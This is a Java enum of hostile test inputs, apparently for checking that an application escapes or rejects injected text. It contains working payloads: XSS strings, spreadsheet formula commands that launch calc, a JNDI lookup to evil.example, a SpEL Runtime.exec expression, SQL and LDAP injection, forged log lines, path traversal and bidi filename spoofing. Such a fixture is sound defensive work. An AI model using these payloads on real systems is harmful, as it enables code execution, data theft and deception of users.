package hoist.simulators.hostile;

/** One text that wants to be more than text, for each way we know of; {@link #SCRIPT_RAN} is what a script among them leaves behind. */
public enum HostileText {
    SCRIPT("<script>document.title='" + HostileText.SCRIPT_RAN + "'</script>"),
    IMAGE("<img src=x onerror=\"document.title='" + HostileText.SCRIPT_RAN + "'\">"),
    SVG("<svg/onload=document.title='" + HostileText.SCRIPT_RAN + "'>"),
    FRAME("<iframe srcdoc=\"<script>top.document.title='" + HostileText.SCRIPT_RAN + "'</script>\"></iframe>"),
    TAG_ENDS("</p></li></ul></td></textarea></title></script><b>x"),
    ATTRIBUTE_END("\" autofocus onfocus=\"document.title='" + HostileText.SCRIPT_RAN + "'\" x='"),
    COMMENT("<!--><script>document.title='" + HostileText.SCRIPT_RAN + "'</script>-->"),
    ESCAPED_MARKUP("&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;"),
    SCRIPT_LINK("<a href=\"javascript:document.title='" + HostileText.SCRIPT_RAN + "'\">Approve</a>"),
    DATA_LINK("<a href=\"data:text/html,<script>alert(1)</script>\">Approve</a>"),
    MARKDOWN_LINK("[Approve here](javascript:alert(1))"),
    MARKDOWN_IMAGE("![x](https://evil.example/seen.png)"),
    BARE_LINK("see https://evil.example/approve?x=1"),
    BARE_LINK_WITHOUT_SCHEME("see www.evil.example"),
    OTHER_SCHEME("ms-word:ofe|u|file://evil.example/share/x.docx"),
    FORGED_LINE("x\r\n2026-11-21T12:00:00.000Z INFO  AuditLog: Call accepted tenant=\"other\" statusCode=\"202\""),
    FORGED_KEY("x\" tenant=\"other\" statusCode=\"202"),
    UNICODE_LINES("a\u0085b\u2028c\u2029d\u000Be\u000Cf"),
    NUL("a\u0000b"),
    LOW_CONTROLS("a\u0001\u0007\u0008\u001F\u007Fb"),
    HIGH_CONTROLS("a\u0080\u0090\u009Bb"),
    TERMINAL("\u001B[2J\u001B[31mred\u001B]0;title\u0007\u009B31m"),
    RIGHT_TO_LEFT("invoice\u202Efdp.exe"),
    ALL_BIDI("\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069\u200E\u200F\u061C x"),
    ZERO_WIDTH("a\u200B\u200C\u200D\u2060\uFEFF\u00ADb"),
    INVISIBLE_TAGS("a\uDB40\uDC41\uDB40\uDC7Fb"),
    HOMOGLYPH("D\u0435mo P\u0410M tenant"),
    FORMULA("=HYPERLINK(\"https://evil.example\",\"Approve\")"),
    FORMULA_COMMAND("+cmd|' /C calc'!A0"),
    FORMULA_SUM("@SUM(1+1)*cmd|' /C calc'!A0"),
    FORMULA_AFTER_TAB("\t=1+1"),
    FORMULA_AFTER_RETURN("\r=1+1"),
    JNDI("${jndi:ldap://evil.example/a}${env:PATH}"),
    SPEL("#{T(java.lang.Runtime).getRuntime().exec('calc')}"),
    FORMAT("%s%n%1$s%x%d{HH}"),
    HALO_VARIABLE("<<CFidemeumElevationRequestId>> <<ticket^summary!>>"),
    HALO_DOLLAR("$CLIENT_REFERENCE $FAULTID $-USERNAME"),
    BACKSLASHES("\\u0022 \\\" \\n C:\\Temp\\x"),
    SQL("' OR 1=1 --"),
    LDAP("*)(uid=*"),
    SEARCH_JSON("[{\"filter_name\":\"summary\",\"filter_type\":0,\"filter_value\":\"\"}]"),
    QUERY("x&client_id=1&search=%25&open_only=false#?;"),
    URI_TEMPLATE("{client_id}{search}"),
    OTHER_PATH("../../api/Agent/1?x="),
    JSON_END("Acme\",\"userElevationMode\":\"TENANT"),
    FORGED_REFERENCE("Reference: HST-AAAAAAAAAA-BBBBBB"),
    HALF_A_CHARACTER("a\uD83Db\uDE00c"),
    EMOJI("\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67 \uD83C\uDFF4"),
    MARKS("Z" + "\u0301\u0489".repeat(300)),
    LONG("x".repeat(4000)),
    LONG_MARKUP("<&\"'>".repeat(800));

    /** What scripts among them make the title of the page they run in. */
    public static final String SCRIPT_RAN = "a script ran";

    private final String text;

    HostileText(String text) {
        this.text = text;
    }

    /** The text itself. */
    public String text() {
        return text;
    }
}
